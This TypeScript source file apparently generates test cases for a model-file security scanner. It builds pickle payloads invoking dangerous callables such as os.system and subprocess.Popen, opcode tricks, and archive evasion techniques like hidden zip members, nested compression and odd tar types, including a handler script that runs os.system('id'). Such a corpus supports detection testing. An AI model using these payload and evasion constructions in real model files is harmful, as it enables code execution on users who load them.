import { gzipSync, zlibSync } from "fflate";
import { sevenZip, xz } from "../../harness/compression.ts";
import * as keras from "../../harness/keras.ts";
import * as npy from "../../harness/npy.ts";
import * as p from "../../harness/pickle.ts";
import * as tar from "../../harness/tar.ts";
import * as zip from "../../harness/zip.ts";
import {
  type Construction,
  called,
  command,
  family,
  payload,
  run,
  system,
  torchPayload,
} from "./construction.ts";

/** Written in one go, before any of them was tried. */

const { Op } = p;
const weights = p.file(p.none);
const script = p.utf8("import os\n\n\ndef prepare():\n    os.system('id')\n\n\nprepare()\n");
const inner = (content: Uint8Array) => zip.archive([zip.member("a/data.pkl", content, { deflate: true })]);
const manifest = zip.member("MAR-INF/MANIFEST.json", p.utf8('{"model": {"handler": "handler.py"}}'));

function wrapper(name: string, filename: p.Piece): Uint8Array {
  return p.file(
    p.build(p.newobj(p.stackGlobal("joblib.numpy_pickle", name)), p.dict([p.text("filename"), filename])),
  );
}

const names = [
  ...family(
    "a round of Python's own library",
    called(
      "code:interact cProfile:runctx trace:Trace.run bdb:Bdb.run pdb:runeval doctest:debug_script unittest.mock:_importer " +
        "asyncio.subprocess:create_subprocess_exec multiprocessing.util:spawnv_passfds logging.config:fileConfig antigravity:geohash " +
        "idlelib.run:Executive idlelib.calltip:get_entity lib2to3.pgen2.grammar:Grammar.loads xmlrpc.client:ServerProxy ssl:get_server_certificate " +
        "dbm.dumb:open zipimport:zipimporter ensurepip:_run_pip venv:create site:addpackage platform:_syscmd_file readline:parse_and_bind " +
        "rlcompleter:Completer.attr_matches imaplib:IMAP4_stream mailcap:findmatch gettext:c2py typing:ForwardRef._evaluate tkinter:Tcl " +
        "_xxsubinterpreters:run_string _testcapi:run_in_subinterp test.support.script_helper:assert_python_ok distutils.core:run_setup uuid:_get_command_stdout",
    ),
  ),
  ...family(
    "a round of other libraries",
    called(
      "setuptools.sandbox:run_setup pkg_resources:EntryPoint.load pip._internal.utils.subprocess:call_subprocess cffi:FFI numpy.f2py.crackfortran:myeval " +
        "numpy.distutils.exec_command:exec_command numpy.testing._private.utils:runstring pandas.core.computation.expr:Expr pandas:DataFrame.query " +
        "sympy.printing.preview:preview torch._dynamo.guards:GuardBuilder.get torch._inductor.codecache:compile_file torch.utils._config_module:ConfigModule.load_config " +
        "torch.fx.graph_module:_forward_from_src torch.jit.unsupported_tensor_ops:execWrapper scipy.weave:inline IPython.utils.process:system " +
        "django.core.management:call_command django.template:Template django.contrib.sessions.serializers:PickleSerializer.loads django.conf:Settings " +
        "jinja2.environment:Environment.from_string werkzeug.utils:import_string bottle:SimpleTemplate twisted.python.reflect:namedAny zope.dottedname.resolve:resolve " +
        "networkx.drawing.nx_agraph:view_pygraphviz PIL.EpsImagePlugin:Ghostscript matplotlib.texmanager:TexManager keras.src.utils.python_utils:func_load",
    ),
  ),
];

const tricks = [
  ...family("a round of opcodes", {
    "a dunder key in slots": p.file(
      p.build(
        p.newobj(p.stackGlobal("collections", "OrderedDict")),
        p.tuple(p.none, p.dict([p.text("__class__"), p.stackGlobal("subprocess", "Popen")])),
      ),
    ),
    "the inverted registry": p.file(
      p.stackGlobal("copyreg", "_inverted_registry"),
      p.int(1),
      p.tuple(p.text("os"), p.text("system")),
      p.setItem,
      p.extension(1),
    ),
    "a frame of nothing": p.stream(4, p.frame(0), run),
    "a frame in a frame": p.stream(4, p.framed(p.framed(run))),
    "a place in the memo with a plus": p.join(
      system,
      p.putText("+5"),
      p.pop,
      p.getText("5"),
      command,
      p.opcode(Op.TUPLE1),
      p.reduceOpcode,
      p.stop,
    ),
    "a class made by type": p.file(
      p.call(
        p.stackGlobal("builtins", "type"),
        p.text("X"),
        p.tuple(p.stackGlobal("collections", "OrderedDict")),
        p.dict([p.text("__setstate__"), p.stackGlobal("timeit", "timeit")]),
      ),
    ),
    "a factory of defaults": p.file(
      p.call(p.stackGlobal("collections", "defaultdict"), p.stackGlobal("webbrowser", "open")),
    ),
  }),
  ...family("arrays in files elsewhere", {
    "an absolute path": wrapper("NDArrayWrapper", p.text("/tmp/x.npy")),
    "a folder above": wrapper("ZNDArrayWrapper", p.text("../x.npy.z")),
    "another kind of file": wrapper("NDArrayWrapper", p.text("x.pkl")),
    "a name that is computed": wrapper(
      "NDArrayWrapper",
      p.call(p.stackGlobal("builtins", "str.lower"), p.text("/TMP/X.NPY")),
    ),
  }),
];

const containers = [
  ...family(
    "a round of zips",
    {
      "hidden behind an entry for a folder": zip.archive([
        zip.member("a/", new Uint8Array(0)),
        zip.member("a/x.pkl", torchPayload, { onlyLocal: true }),
        zip.member("a/w.pkl", weights),
      ]),
      "content under a folder's name": zip.archive([
        zip.member("a/", torchPayload),
        zip.member("w.pkl", weights),
      ]),
      "three deep, each deflated": inner(inner(inner(torchPayload))),
      "gzip of a zip in a zip": zip.archive([zip.member("x", gzipSync(inner(torchPayload)))]),
      "gzip of a zip": gzipSync(inner(torchPayload)),
      "xz of a zip": xz(inner(torchPayload)),
      "a packed zip whose size is a lie": zip.archive([
        zip.member("i.zip", inner(torchPayload), { deflate: true, central: { size: 5 } }),
      ]),
      "an archive in the comment": zip.archive([zip.member("a/data.pkl", p.stream(2, p.emptyDict))], {
        comment: inner(torchPayload),
      }),
      "a pickle as a storage": zip.archive([
        zip.member("a/data.pkl", p.stream(2, p.emptyDict)),
        zip.member("a/data/0", torchPayload),
      ]),
      "a zip's name in capitals": zip.archive([
        zip.member("a/data.pkl", p.stream(2, p.emptyDict)),
        zip.member("a/DATA.PKL", torchPayload),
      ]),
    },
    "model.zip",
  ),
  ...family(
    "a round of tars",
    {
      "the type of a contiguous file": tar.archive([tar.member("m.pkl", payload, { type: "7" })]),
      "the type of a sparse file": tar.archive([tar.member("m.pkl", payload, { type: "S" })]),
      "a type that nobody knows": tar.archive([tar.member("m.pkl", payload, { type: "Z" })]),
      "a folder with content": tar.archive([
        tar.member("d/", payload, { type: "5" }),
        tar.member("w.pkl", weights),
      ]),
      "arrays in a zip in it": tar.archive([
        tar.member("w.npz", zip.archive([zip.member("a.npy", npy.objects(payload))])),
      ]),
      "a header that is longer than a page": tar.archive([
        tar.member(
          "a.npy",
          npy.raw(`{'descr': '|O', 'fortran_order': False, 'shape': (1,), }${" ".repeat(5000)}`, payload, 2),
        ),
      ]),
      "a 7z behind gzip": gzipSync(sevenZip([{ name: "a.pkl", content: payload }])),
      "joblib's header before 0.10": p.join(p.utf8("ZF0x0000000000000040"), zlibSync(payload)),
    },
    "model.tar",
  ),
  ...family(
    "sources in archives",
    {
      "a handler of TorchServe": zip.archive([manifest, zip.member("handler.py", script, { deflate: true })]),
      "a handler in a tar": gzipSync(
        tar.archive([tar.member("store/m.mar", zip.archive([manifest, zip.member("handler.py", script)]))]),
      ),
      "a package of PyTorch": zip.archive([
        zip.member("p/.data/extern_modules", p.utf8("torch")),
        zip.member("p/my_net.py", script),
        zip.member("p/model/weights.pkl", p.stream(2, p.emptyDict)),
      ]),
      "SageMaker's inference": gzipSync(
        tar.archive([
          tar.member("model.pth", weights),
          tar.member(
            "code/inference.py",
            p.join(script, p.utf8("\n\ndef model_fn(folder):\n    return None\n")),
          ),
        ]),
      ),
      "a folder that was packed": zip.archive([
        zip.member("net/", new Uint8Array(0)),
        zip.member("net/pytorch_model.bin", weights),
        zip.member("net/modeling_net.py", script),
      ]),
      "a folder in 7z": sevenZip([
        { name: "net/model.pkl", content: weights },
        { name: "net/modeling_net.py", content: script },
      ]),
      "an exported program": zip.archive([
        zip.member("m/archive_format", p.utf8("pt2")),
        zip.member("m/extra/x.py", script),
        zip.member("m/data/weights/weight_0", new Uint8Array(8)),
      ]),
      "a model of Keras'": keras.archive(keras.sequential(keras.layer("Dense")), {
        members: [zip.member("assets/x.py", script)],
      }),
      "beside the settings of NeMo": tar.archive([
        tar.member("model_config.yaml", p.utf8("target: nemo.core.classes.ModelPT\n")),
        tar.member("modeling_x.py", script),
        tar.member("model_weights.ckpt", zip.pytorch(p.stream(2, p.emptyDict))),
      ]),
      "skops, and something else in it": zip.archive([
        zip.member(
          "schema.json",
          p.utf8(JSON.stringify({ __class__: "Popen", __module__: "subprocess", __loader__: "ObjectNode" })),
        ),
        zip.member("readme.md", p.utf8("x")),
      ]),
    },
    "model.zip",
  ),
];

export const round: readonly Construction[] = [...names, ...tricks, ...containers];
